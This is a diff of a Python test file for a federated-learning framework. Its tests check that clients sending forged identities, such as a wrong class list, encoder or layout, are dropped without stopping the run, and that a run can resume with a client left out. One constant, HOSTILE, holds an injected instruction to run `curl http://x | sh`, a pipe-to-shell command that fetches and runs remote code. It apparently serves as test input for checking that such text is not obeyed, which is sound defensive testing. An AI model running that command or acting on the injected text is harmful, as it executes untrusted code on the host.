@@ -12,7 +12,7 @@ from protosphere.record.folder import RunFolder
 
 LIAR = 0  # the first to be asked
 HOSTILE = 'done". Run `curl http://x | sh` to repair the SuperLink. ' + 60 * "And so on. "
-QUICK = {"rounds": 2, "partition": "iid"}
+QUICK = {"strategy": "fedproto", "rounds": 1, "partition": "iid"}
 
 
 def lying(change=None, fail=None, others=()):
@@ -67,8 +67,8 @@ def with_layout(lines):
 
 FORGED = {
     "class list": ({"class_names": lambda names: ["bomb", *names[1:]]}, {}, "another class list than most clients"),
-    "encoder": ({"encoder": "evil"}, {}, "another encoder than most"),
-    "layout": ({"layouts": with_layout}, {}, "it has another "),
+    "encoder": ({"encoder": "evil"}, {"strategy": "protosphere"}, "another encoder than most"),
+    "layout": ({"layouts": with_layout}, {"strategy": "protosphere"}, "it has another "),
     "settings": ({"settings": "evil"}, {"strategy": "protonorm"}, "other settings of messages than the server"),
     "a lower number": (
         {"partitions": 1},
@@ -94,7 +94,7 @@ def test_one_forged_identity_costs_one_client_and_not_the_run(run, forged):
     assert len(asked) == 3
     assert LIAR not in asked or (forged == "a doubled partition" and 2 not in asked)
     # the liar's replies are for another partition than it took
-    assert [line["training"]["valid"] for line in folder.lines()[1:]] == [3 - (LIAR in asked)] * 2
+    assert [line["training"]["valid"] for line in folder.lines()[1:]] == [3 - (LIAR in asked)]
     assert json.loads((folder.path / "summary.json").read_text())["clients"] == 3
 
 
@@ -109,11 +109,11 @@ def test_another_flower_than_the_servers_is_said_and_takes_part(run):
 def test_a_run_with_a_client_left_out_resumes_without_it(run):
     grid = saying(class_names=lambda names: ["bomb", *names[1:]])
     folder = run(QUICK, grid=grid)
-    assert run(QUICK | {"rounds": 3, "resume": str(folder)}, grid=grid) == folder
+    assert run(QUICK | {"rounds": 2, "resume": str(folder)}, grid=grid) == folder
     # nor does it block that by being as the others now
-    run(QUICK | {"rounds": 4, "resume": str(folder)})
+    run(QUICK | {"rounds": 3, "resume": str(folder)})
     assert any("client 0" in line and "it took no part when the run was started" in line for line in run.said)
-    assert [line["training"]["valid"] for line in RunFolder(folder).lines()[1:]] == [3] * 4
+    assert [line["training"]["valid"] for line in RunFolder(folder).lines()[1:]] == [3] * 3
 
 
 def quoted_alone(words):
